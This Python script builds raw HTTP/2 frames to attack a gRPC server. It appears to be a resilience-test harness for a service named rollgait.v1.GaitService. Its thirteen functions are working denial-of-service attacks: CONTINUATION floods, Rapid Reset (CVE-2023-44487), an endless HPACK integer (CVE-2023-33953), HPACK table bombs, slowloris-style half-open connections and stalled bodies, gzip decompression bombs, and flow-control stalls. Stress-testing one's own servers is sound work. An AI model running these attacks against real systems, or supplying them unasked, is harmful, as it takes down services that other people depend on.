#!/usr/bin/python3
"""What a peer may do to a server with and without a token, by hand-made HTTP/2 frames over TLS or plain text.

  attacks.py ATTACK --to HOST:PORT [--ca FILE] [--seconds S] [--source ADDRESS] [--token FILE] [--solve NAME]

Goes on for S seconds, connecting again whenever it is thrown out, and prints one line of JSON: connections made and
refused, bytes and streams sent. Exit code 0 whatever the server did.
"""
import argparse
import gzip
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK without Huffman code."""
    size = len(value)
    if size < 127:
        return bytes((size,)) + value
    head, rest = b"\x7f", size - 127
    while rest >= 128:
        head, rest = head + bytes((rest % 128 | 128,)), rest // 128
    return head + bytes((rest,)) + value


def call(method, token=b""):
    """The header block of a call, without use of the dynamic table."""
    block = b"\x83\x87" + b"\x04" + text(b"/rollgait.v1.GaitService/" + method) + b"\x01" + text(b"localhost")
    block += b"\x00" + text(b"content-type") + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers")
    return block + (b"\x00" + text(b"authorization") + text(b"Bearer " + token) if token else b"")


class Attacker:
    def __init__(self, arguments):
        host, port = arguments.to.rsplit(":", 1)
        self.address = (host, int(port))
        self.source, self.end = arguments.source, time.monotonic() + arguments.seconds
        self.token = open(arguments.token, "rb").read().strip() if arguments.token else b""
        self.solve, self.connections, self.streams = arguments.solve.encode(), arguments.connections, arguments.streams
        self.tls = ssl.create_default_context(cafile=arguments.ca) if arguments.ca else None
        if self.tls:
            self.tls.verify_flags |= ssl.VERIFY_X509_STRICT  # the default from Python 3.13 on
            self.tls.set_alpn_protocols(["h2"])
        self.counts = {"connections": 0, "refused": 0, "bytes": 0, "streams": 0}
        self.lock = threading.Lock()

    def count(self, **what):
        with self.lock:
            for name, number in what.items():
                self.counts[name] += number

    def on(self):
        return time.monotonic() < self.end

    def raw(self):
        return socket.create_connection(self.address, timeout=5, source_address=(self.source, 0))

    def connect(self, settings=b""):
        """A connection with its preface sent; None: refused."""
        try:
            peer = self.raw()
            if self.tls:
                peer = self.tls.wrap_socket(peer, server_hostname="localhost")
            peer.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
            peer.settimeout(0)
        except OSError:
            self.count(refused=1)
            time.sleep(0.01)
            return None
        self.count(connections=1)
        return peer

    def send(self, peer, data, streams=0, read=True):
        """False: the server has closed, or takes nothing for 2 s. `read`: what it sends meanwhile is taken."""
        rest, patience = memoryview(data), time.monotonic() + 2
        while rest:
            if not self.on() or time.monotonic() > patience or (read and not self.drain(peer)):
                return False
            try:
                rest = rest[peer.send(rest):]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                select.select([peer] if read else [], [peer], [], 0.1)
            except OSError:
                return False
        self.count(bytes=len(data), streams=streams)
        return True

    @staticmethod
    def drain(peer, received=None):
        """Takes what is there; False: the server has closed."""
        try:
            while True:
                data = peer.recv(65536)
                if not data:
                    return False
                if received is not None:
                    received += data
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            return False

    def hold(self, open_one, most):
        """As many connections as the server leaves open."""
        held = []
        while self.on():
            if len(held) < most:
                peer = open_one()
                if peer is not None:
                    held.append(peer)
                    continue
            time.sleep(0.01)

    @staticmethod
    def eight_times(work):
        """At once, each in a thread of its own."""
        threads = [threading.Thread(target=work, daemon=True) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    @staticmethod
    def take_credit(buffer, credit):
        """Takes whole frames off what was received and adds the windows that they open."""
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            size, kind, stream = int.from_bytes(buffer[:3], "big"), buffer[3], int.from_bytes(buffer[5:9], "big")
            if kind == WINDOW_UPDATE and stream in credit:
                credit[stream] += int.from_bytes(buffer[9:13], "big")
            del buffer[:9 + size]

    # The attacks.

    def continuation_flood(self):
        """A header block that never ends."""
        filler = b"".join(b"\x00" + text(b"x%d" % i) + text(b"y" * 100) for i in range(140))[:16000]
        more = frame(CONTINUATION, 0, 1, filler) * 8
        while self.on():
            peer = self.connect()
            if peer is None or not self.send(peer, frame(HEADERS, END_STREAM, 1, call(b"GetServerInfo")), 1):
                continue
            while self.on() and self.send(peer, more):
                pass
            peer.close()

    def rapid_reset(self):
        """Calls that are reset at once (CVE-2023-44487)."""
        block = call(b"GetServerInfo", self.token)
        message = b"\0" * 5
        while self.on():
            peer = self.connect()
            stream = 1
            while peer is not None and self.on():
                batch = b""
                for _ in range(100):
                    batch += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    stream += 2
                if not self.send(peer, batch, 100):
                    peer.close()
                    break

    def hpack_varint(self):
        """A number in a header block whose bytes never end (CVE-2023-33953)."""
        more = frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 8
        while self.on():
            peer = self.connect()
            if peer is None or not self.send(peer, frame(HEADERS, END_STREAM, 1, call(b"GetServerInfo") + b"\x7f"), 1):
                continue
            while self.on() and self.send(peer, more):
                pass
            peer.close()

    def hpack_bomb(self):
        """One long header in the dynamic table, named thousands of times in each call."""
        while self.on():
            peer = self.connect()
            if peer is None:
                continue
            first = call(b"GetServerInfo") + b"\x40" + text(b"z") + text(b"z" * 3900)
            self.send(peer, frame(HEADERS, END_HEADERS | END_STREAM, 1, first), 1)
            stream = 3
            while self.on() and self.send(
                    peer, frame(HEADERS, END_HEADERS | END_STREAM, stream, call(b"GetServerInfo") + b"\xbe" * 8000), 1):
                stream += 2
            peer.close()

    def idle_connections(self):
        """Connections that say hello and nothing else."""
        self.hold(self.connect, 1000)

    def half_handshakes(self):
        """Connections that send half a ClientHello, or half a preface."""
        def half():
            try:
                peer = self.raw()
                peer.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" if self.tls else PREFACE[:10])
            except OSError:
                self.count(refused=1)
                return None
            self.count(connections=1)
            return peer
        self.hold(half, 1000)

    def half_calls(self):
        """Calls whose message never comes."""
        def half():
            peer = self.connect()
            if peer is not None:
                block = call(b"GetServerInfo")
                self.send(peer, b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(1000)), 1000)
            return peer
        self.hold(half, 100)

    def half_bodies(self):
        """Calls of 15 MB whose last byte never comes: as much as the windows let through."""
        def pour():
            while self.on():
                peer = self.connect()
                if peer is None:
                    continue
                streams = range(1, 200, 2)
                head = struct.pack(">BI", 0, 15_000_000)
                for stream in streams:
                    self.send(peer, frame(HEADERS, END_HEADERS, stream, call(b"CreateSolve")) +
                              frame(DATA, 0, stream, head), 1)
                credit = {0: 65535 - 5 * len(streams), **{stream: 65530 for stream in streams}}
                buffer, chunk = bytearray(), b"\x0a" * 16384
                while self.on() and self.drain(peer, buffer):
                    self.take_credit(buffer, credit)
                    ready = [s for s in streams if credit[s] >= 16384]
                    if not ready or credit[0] < 16384:
                        select.select([peer], [], [], 0.1)
                        continue
                    stream = random.choice(ready)
                    if not self.send(peer, frame(DATA, 0, stream, chunk), read=False):
                        break
                    credit[0] -= 16384
                    credit[stream] -= 16384
                peer.close()
        self.eight_times(pour)

    def compressed_bodies(self):
        """Calls of 8 KB each, short to the door, that unfold into 8 MB."""
        packed = gzip.compress(b"\x0a" * 8_000_000)
        block = call(b"CreateSolve") + b"\x00" + text(b"grpc-encoding") + text(b"gzip")
        message = struct.pack(">BI", 1, len(packed)) + packed

        def pour():
            while self.on():
                peer = self.connect()
                if peer is None:
                    continue
                buffer, stream, credit = bytearray(), 1, {0: 65535}
                while self.on() and self.drain(peer, buffer):
                    self.take_credit(buffer, credit)
                    if credit[0] < len(message):
                        select.select([peer], [], [], 0.1)
                        continue
                    if not self.send(peer, frame(HEADERS, END_HEADERS, stream, block) +
                                     frame(DATA, END_STREAM, stream, message), 1, read=False):
                        break
                    credit[0] -= len(message)
                    stream += 2
                peer.close()
        self.eight_times(pour)

    def unread_refusals(self):
        """Calls without a token whose refusals are never read."""
        block, message = call(b"GetServerInfo"), b"\0" * 5

        def ask():
            peer = self.connect()
            if peer is None:
                return None
            stream = 1
            while self.on():
                batch = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) +
                                 frame(DATA, END_STREAM, stream + 2 * i, message) for i in range(50))
                stream += 100
                if not self.send(peer, batch, 50, read=False):
                    break
            return peer
        self.hold(ask, 200)

    def unread_answers(self, method=b"ListModels", request=b""):
        """Calls with a token whose answers the windows of the client do not let out."""
        block, message = call(method, self.token), b"\0" + struct.pack(">I", len(request)) + request

        def ask():
            peer = self.connect(settings=struct.pack(">HI", 4, 0))  # SETTINGS_INITIAL_WINDOW_SIZE
            if peer is not None:
                calls = [frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(DATA, END_STREAM, 2 * i + 1, message)
                         for i in range(self.streams)]
                self.send(peer, b"".join(calls), self.streams)
            return peer
        self.hold(ask, self.connections)

    def unread_results(self):
        """The same with GetSolve of one solve, whose result is long."""
        self.unread_answers(b"GetSolve", b"\x0a" + text(self.solve))

    def unread_watches(self):
        """The same with streams of a finished solve, whose last event is its result."""
        self.unread_answers(b"WatchSolve", b"\x0a" + text(self.solve))


ATTACKS = ("continuation_flood", "rapid_reset", "hpack_varint", "hpack_bomb", "idle_connections", "half_handshakes",
           "half_calls", "half_bodies", "compressed_bodies", "unread_refusals", "unread_answers", "unread_results", "unread_watches")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--to", required=True, help="HOST:PORT")
    parser.add_argument("--ca", help="authority of the server, PEM; without: plain text")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--source", default="127.0.0.2", help="address to come from")
    parser.add_argument("--token", help="file with a bearer token")
    parser.add_argument("--solve", default="", help="solves/ID of the token's tenant, for unread_results and _watches")
    parser.add_argument("--connections", type=int, default=200, help="of unread_answers, _results and _watches")
    parser.add_argument("--streams", type=int, default=1000, help="of each such connection")
    arguments = parser.parse_args()
    attacker = Attacker(arguments)
    getattr(attacker, arguments.attack)()
    print(json.dumps({"attack": arguments.attack, **attacker.counts}))
    sys.stdout.flush()
    os._exit(0)  # threads may still read


if __name__ == "__main__":
    main()
